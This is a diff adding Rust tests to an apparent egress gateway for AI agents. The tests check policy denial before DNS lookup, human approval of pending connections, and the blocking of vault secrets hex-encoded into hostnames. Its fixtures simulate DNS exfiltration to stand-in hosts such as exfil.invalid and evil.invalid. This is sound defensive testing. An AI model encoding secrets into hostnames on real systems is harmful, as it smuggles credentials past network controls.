@@ -211,3 +211,137 @@ forbid (principal, action == Action::"connect", resource) when {{ context.port =
     assert_eq!(outcomes, ["approved", "denied"]);
     drop(gw);
 }
+
+/// A name shaped like a DNS exfiltration: data in the leftmost label, under
+/// a domain that never resolves (RFC 6761), so a lookup would show as a
+/// resolution failure instead of the decision.
+const EXFIL_HOST: &str = "736563726574206461746120686572650a.exfil.invalid";
+
+#[test]
+fn a_name_policy_does_not_permit_is_denied_before_it_is_looked_up() {
+    let w = Warrant::new(BIN);
+    std::fs::write(w.home().join("policy/default.cedar"), POLICY).unwrap();
+    let (_, token) = w.spawn_agent("fetcher", &[]);
+    let gw = w.up();
+    let out = client(
+        &gw.url,
+        Some(&token),
+        &json!([
+            request(&format!("http://{EXFIL_HOST}/x")),
+            request(&format!("https://{EXFIL_HOST}/x")),
+        ]),
+    );
+    for i in 0..2 {
+        let text = out["results"][i]["text"].as_str().unwrap_or_default();
+        assert!(text.contains("no policy permits"), "{out}");
+        assert!(!text.contains("resolv"), "the name was looked up before policy: {out}");
+    }
+    let records = audit_records(&w);
+    let denied = records.iter().filter(|r| {
+        r["kind"] == "egress_decision"
+            && r["body"]["host"] == EXFIL_HOST
+            && r["body"]["outcome"] == "deny"
+    });
+    assert_eq!(denied.count(), 2, "{records:?}");
+    assert!(!records.iter().any(|r| r["kind"] == "egress_refused"), "{records:?}");
+    drop(gw);
+}
+
+#[test]
+fn a_name_policy_asks_about_is_looked_up_only_after_the_approval_and_the_person_sees_it() {
+    let w = Warrant::new(BIN);
+    std::fs::write(
+        w.home().join("policy/default.cedar"),
+        format!(
+            r#"{POLICY}
+@id("invalid-hosts") permit (principal, action == Action::"connect", resource)
+when {{ resource.name like "*.invalid" }};
+@id("ask-invalid") @ask("an unknown domain")
+forbid (principal, action == Action::"connect", resource) when {{ resource.name like "*.invalid" }};"#
+        ),
+    )
+    .unwrap();
+    let (_, token) = w.spawn_agent("fetcher", &[]);
+    let gw = w.up();
+    let (url, t) = (gw.url.clone(), token.clone());
+    let calls = std::thread::spawn(move || {
+        client(
+            &url,
+            Some(&t),
+            &json!([
+                request(&format!("http://{EXFIL_HOST}/pay?to=bob")),
+                {"op": "call", "tool": "warrant__http_request",
+                 "arguments": {"url": format!("https://{EXFIL_HOST}/v1/charges"), "method": "POST"}},
+            ]),
+        )
+    });
+    let first = wait_for_pending(&w, &format!("egress: GET {EXFIL_HOST}:80"));
+    assert_eq!(
+        first["arguments"],
+        json!({"scheme": "http", "host": EXFIL_HOST, "port": 80, "method": "GET", "path": "/pay?to=bob"}),
+        "{first}"
+    );
+    assert_eq!(w.run(&["deny", first["id"].as_str().unwrap(), "--by", "dave"]).code, 0);
+    // A tunnel's request is known to the tool: the person sees it, not CONNECT.
+    let second = wait_for_pending(&w, &format!("egress: POST {EXFIL_HOST}:443"));
+    assert_eq!(
+        second["arguments"],
+        json!({"scheme": "https", "host": EXFIL_HOST, "port": 443, "method": "POST", "path": "/v1/charges"}),
+        "{second}"
+    );
+    assert_eq!(w.run(&["approve", second["id"].as_str().unwrap(), "--by", "carol"]).code, 0);
+
+    let out = calls.join().unwrap();
+    let denied = out["results"][0]["text"].as_str().unwrap_or_default();
+    assert!(denied.contains("a person (dave) denied this connection"), "{out}");
+    assert!(!denied.contains("resolv"), "looked up although the person denied: {out}");
+    // Approved, and only then looked up: `.invalid` does not resolve.
+    let approved = out["results"][1]["text"].as_str().unwrap_or_default();
+    assert!(approved.contains("resolv"), "{out}");
+    let records = audit_records(&w);
+    let refused: Vec<&Value> = records.iter().filter(|r| r["kind"] == "egress_refused").collect();
+    assert_eq!(refused.len(), 1, "only the approved name was looked up: {records:?}");
+    drop(gw);
+}
+
+#[test]
+fn a_vault_secret_in_a_host_name_is_blocked_as_a_leak_and_never_decided() {
+    const SECRET: &str = "s3cr3t-Value-0123456789abcdef";
+    let w = Warrant::new(BIN);
+    w.set_env("WARRANT_VAULT_PASSPHRASE", "correct horse battery staple");
+    let out = w.run_with_input(&["vault", "add", "github", "--host", "api.github.com"], SECRET);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    std::fs::write(
+        w.home().join("policy/default.cedar"),
+        format!(
+            r#"{POLICY}
+@id("any-host") permit (principal, action == Action::"connect", resource);"#
+        ),
+    )
+    .unwrap();
+    let (_, token) = w.spawn_agent("fetcher", &[]);
+    let gw = w.up();
+    let hex: String = SECRET.bytes().map(|b| format!("{b:02x}")).collect();
+    let (head, tail) = hex.split_at(30);
+    let out = client(
+        &gw.url,
+        Some(&token),
+        &json!([
+            request(&format!("http://{hex}.evil.invalid/")),
+            request(&format!("https://{head}.{tail}.evil.invalid/")),
+        ]),
+    );
+    for i in 0..2 {
+        let text = out["results"][i]["text"].as_str().unwrap_or_default();
+        assert!(text.contains("blocked") && text.contains("github"), "{out}");
+        assert!(!text.contains("resolv"), "{out}");
+    }
+    let records = audit_records(&w);
+    let of = |kind: &str| records.iter().filter(|r| r["kind"] == kind).count();
+    assert_eq!(of("leak_blocked"), 2, "{records:?}");
+    assert_eq!(of("egress_decision"), 0, "a name carrying a secret was put to policy");
+    assert_eq!(of("egress_refused"), 0, "{records:?}");
+    let log = serde_json::to_string(&records).unwrap();
+    assert!(!log.contains(head) && !log.contains(tail), "the audit log holds the secret");
+    drop(gw);
+}
